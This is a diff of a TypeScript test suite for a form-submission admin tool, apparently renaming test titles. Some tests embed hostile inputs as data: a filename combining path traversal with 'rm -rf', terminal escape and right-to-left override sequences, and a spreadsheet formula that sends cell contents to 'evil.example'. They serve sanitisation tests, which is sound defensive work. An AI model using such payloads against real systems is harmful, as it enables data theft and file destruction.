@@ -26,7 +26,7 @@ import { showSubmission } from "./submissions/show.ts";
 
 const days = ["2026-11-19", "2026-11-20", "2026-11-21"].map((day) => new Date(`${day}T23:59:59.999Z`));
 
-testOnEach("the newest are listed first, in a table", async (database) => {
+testOnEach("a table lists the newest submissions first", async (database) => {
   await storeSample(database, {}, days[0]);
   const stored = {
     kind: "application",
@@ -45,7 +45,7 @@ testOnEach("the newest are listed first, in a table", async (database) => {
   expect(others).toEqual([""]);
 });
 
-testOnEach("a list is narrowed by kind, address and days, both days among them", async (database) => {
+testOnEach("a list is filtered by kind, address and days, both days included", async (database) => {
   const [old, middle, young] = [
     await storeSample(database, { kind: "order", data: order }, days[0]),
     await storeSample(database, { email: "Ming@Example.com", kind: "survey", data: survey }, days[1]),
@@ -64,7 +64,7 @@ testOnEach("a list is narrowed by kind, address and days, both days among them",
   await expect(list(database, { filter: { kind: "quote" } })).rejects.toMatchObject({ exit: "nothing" });
 });
 
-testOnEach("a list that is cut says how many there are", async (database) => {
+testOnEach("a shortened list says how many submissions there are", async (database) => {
   for (const day of days) await storeSample(database, {}, day);
   const { out, err } = await list(database, { limit: 2 });
   expect(out.trim().split("\n")).toHaveLength(3);
@@ -72,7 +72,7 @@ testOnEach("a list that is cut says how many there are", async (database) => {
   expect((await list(database, { limit: 3 })).err).toBe("");
 });
 
-testOnEach("a table fits the terminal, and is whole in a pipe", async (database) => {
+testOnEach("a table fits the terminal, and is complete in a pipe", async (database) => {
   const company = "A company with a name that has no end ".repeat(4).trim();
   await storeSample(database, { data: { ...contact, company } });
   const lines = (await list(database, { columns: 100 })).out.trim().split("\n");
@@ -81,7 +81,7 @@ testOnEach("a table fits the terminal, and is whole in a pipe", async (database)
   expect((await list(database)).out).toContain(company);
 });
 
-testOnEach("what a visitor typed moves no cursor and hides nothing", async (database) => {
+testOnEach("text typed by a visitor cannot move the cursor or hide output", async (database) => {
   const name = "\u001B]0;title\u0007Ana\u009B31m\u202Egpj.exe";
   const reference = await storeSample(database, { data: { ...contact, name, message: `a\r\nb${name}` } });
   const told = [
@@ -94,7 +94,7 @@ testOnEach("what a visitor typed moves no cursor and hides nothing", async (data
 });
 
 testOnEach(
-  "everything of a submission is shown: fields, files, letters and what became of them",
+  "a submission is shown with its fields, files, letters and their state",
   async (database) => {
     await addUpload(database, "file-1", "route survey.pdf");
     const data = { ...survey, notes: "Gate 3.\nAsk for the shift leader." };
@@ -135,7 +135,7 @@ testOnEach(
   },
 );
 
-testOnEach("what stood in a field as typed is shown beside what was understood", async (database) => {
+testOnEach("a field's typed text is shown next to its value", async (database) => {
   const typed = { phone: "0034 600.000.000", "pieces.0.length": "12,5" };
   const reference = await storeSample(database, { data: { ...contact, typed } });
   const { out } = await show(database, { reference });
@@ -146,7 +146,7 @@ testOnEach("what stood in a field as typed is shown beside what was understood",
   expect((await show(database, { reference: await storeSample(database) })).out).not.toContain("As typed");
 });
 
-testOnEach("a reference that nobody has is not found", async (database) => {
+testOnEach("an unknown reference is not found", async (database) => {
   await expect(show(database, { reference: "CT-2222-2222" })).rejects.toMatchObject({
     exit: "nothing",
     message: "CT-2222-2222: there is no such submission",
@@ -154,7 +154,7 @@ testOnEach("a reference that nobody has is not found", async (database) => {
 });
 
 testOnEach(
-  "files are saved under harmless names, for their reader alone, over no other",
+  "files are saved under safe names, private to the user, without overwriting",
   async (database) => {
     await addUpload(database, "file-1", "../../etc/passwd; rm -rf .pdf", "cv");
     await addUpload(database, "file-2", "履歴書.pdf", "cv");
@@ -174,7 +174,7 @@ testOnEach(
   },
 );
 
-testOnEach("a file that breaks off while it is read leaves nothing", async (database) => {
+testOnEach("a file whose download is interrupted leaves nothing", async (database) => {
   await addUpload(database, "file-1");
   const reference = await storeSample(database, { files: ["file-1"] });
   const folder = temporaryFolder();
@@ -192,7 +192,7 @@ testOnEach("a file that breaks off while it is read leaves nothing", async (data
   expect(readdirSync(folder)).toEqual([]);
 });
 
-testOnEach("pages hold every row once, also where many came at the same moment", async (database) => {
+testOnEach("pages contain every row once, even with equal times", async (database) => {
   const rows = Array.from({ length: 1234 }, (_, index) => rowOf(index, index % 3 === 0 ? days[0] : days[1]));
   for (let from = 0; from < rows.length; from += 500) {
     await database
@@ -218,7 +218,7 @@ testOnEach("pages hold every row once, also where many came at the same moment",
 });
 
 testOnEach(
-  "CSV has a row for each, a column for each field, and quotes as RFC 4180 asks",
+  "CSV has a row per submission, a column per field, and quotes as in RFC 4180",
   async (database) => {
     await storeSample(database, { data: { ...contact, message: 'A "tank",\nor two' } }, days[1]);
     await storeSample(database, { kind: "quote", data: quote }, days[0]);
@@ -239,7 +239,7 @@ testOnEach(
   },
 );
 
-testOnEach("a spreadsheet calculates nothing that a visitor typed", async (database) => {
+testOnEach("a spreadsheet computes nothing that a visitor typed", async (database) => {
   const formulas = ['=HYPERLINK("https://evil.example?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"];
   for (const name of formulas) await storeSample(database, { data: { ...contact, name } });
   const [head = [], ...rows] = parseCsv((await exported(database, "csv")).toString());
@@ -254,7 +254,7 @@ testOnEach("a spreadsheet calculates nothing that a visitor typed", async (datab
   expect(sheet + strings).toContain("=HYPERLINK(");
 });
 
-testOnEach("JSON holds everything as it was typed", async (database) => {
+testOnEach("JSON contains everything as typed", async (database) => {
   const reference = await storeSample(database, { kind: "survey", email: survey.email, data: survey });
   for (let count = 0; count < 2; count += 1) await storeSample(database, {}, days[0]);
   const all = JSON.parse((await exported(database, "json")).toString()) as {
@@ -266,7 +266,7 @@ testOnEach("JSON holds everything as it was typed", async (database) => {
 });
 
 testOnEach(
-  "an export is for its reader alone, named by what it holds, over no other file",
+  "an export is private to the user, named after its contents, and overwrites no file",
   async (database) => {
     await storeSample(database);
     const file = join(temporaryFolder(), "all.csv");
@@ -287,7 +287,7 @@ testOnEach(
 );
 
 testOnEach(
-  "what comes while an export runs is left for the next time, whatever its filter",
+  "submissions that arrive during an export are left for the next one, whatever the filter",
   async (database) => {
     await storeSample(database, {}, new Date("2100-01-01T00:00:00Z"));
     const file = join(temporaryFolder(), "all.csv");
@@ -300,7 +300,7 @@ testOnEach(
   },
 );
 
-testOnEach("on a terminal an export shows how far it is", async (database) => {
+testOnEach("on a terminal an export shows its progress", async (database) => {
   await storeSample(database);
   const { terminal, err } = recordedTerminal({ columns: 80 });
   const file = join(temporaryFolder(), "all.json");
@@ -308,7 +308,7 @@ testOnEach("on a terminal an export shows how far it is", async (database) => {
   expect(err()).toContain("of 1");
 });
 
-testOnEach("an address is forgotten with its letters and files, and nothing of others", async (database) => {
+testOnEach("forgetting an address deletes its letters and files, and nobody else's", async (database) => {
   await addUpload(database, "file-1");
   await addUpload(database, "file-2");
   await storeSample(database, { files: ["file-1"] });
@@ -325,7 +325,7 @@ testOnEach("an address is forgotten with its letters and files, and nothing of o
   });
 });
 
-testOnEach("one submission is forgotten by its reference", async (database) => {
+testOnEach("forgetting a reference deletes that submission only", async (database) => {
   const [gone, stays] = [await storeSample(database), await storeSample(database)];
   expect((await forget(database, { reference: gone.toLowerCase(), yes: true })).out).toBe(
     "Deleted 1 submission, 1 letter, no files.\n",
@@ -333,7 +333,7 @@ testOnEach("one submission is forgotten by its reference", async (database) => {
   expect(await referencesIn(database, "submissions")).toEqual([stays]);
 });
 
-testOnEach("nothing is forgotten without a yes", async (database) => {
+testOnEach("nothing is forgotten without confirmation", async (database) => {
   const reference = await storeSample(database);
   const refused = { exit: "nothing", message: expect.stringContaining("--yes") };
   for (const answer of [undefined, "", "\n", "no\n", "yeah\n"]) {
@@ -345,14 +345,14 @@ testOnEach("nothing is forgotten without a yes", async (database) => {
   expect(out).toBe("Deleted 1 submission, 1 letter, no files.\n");
 });
 
-testOnEach("forget wants a reference or an address, not both and not neither", async (database) => {
+testOnEach("forget needs either a reference or an address", async (database) => {
   const usage = { exit: "wrongUsage" };
   await expect(forget(database, { yes: true })).rejects.toMatchObject(usage);
   const both = { reference: "CT-1", email: "ana@example.com", yes: true };
   await expect(forget(database, both)).rejects.toMatchObject(usage);
 });
 
-testOnEach("the signing key is renewed after asking, so that earlier links end", async (database) => {
+testOnEach("the signing key is renewed after confirmation, which invalidates earlier links", async (database) => {
   const signature = (await openSigner(database)).sign(["file"]);
   const isSigned = async () => (await openSigner(database)).isSigned(["file"], signature);
   await expect(
@@ -421,7 +421,7 @@ test("the programs themselves list, show, save, export, forget and retain", { ti
   expect(existsSync(join(dataDir, "uploads", fileId))).toBe(false);
 });
 
-test("retention removes the files of what it deletes, and orphans", { timeout: 60_000 }, async () => {
+test("retention deletes the files of deleted submissions, and orphans", { timeout: 60_000 }, async () => {
   const dataDir = join(temporaryFolder(), "data");
   const [claimed, kept] = ["c".repeat(32), "k".repeat(32)];
   const database = await openDatabase({ dataDir });
@@ -440,7 +440,7 @@ test("retention removes the files of what it deletes, and orphans", { timeout: 6
 });
 
 test(
-  "beside a site whose -shm file was deleted no command opens the database",
+  "no command opens the database of a site whose -shm file was deleted",
   { timeout: 60_000 },
   async () => {
     const dataDir = join(temporaryFolder(), "data");
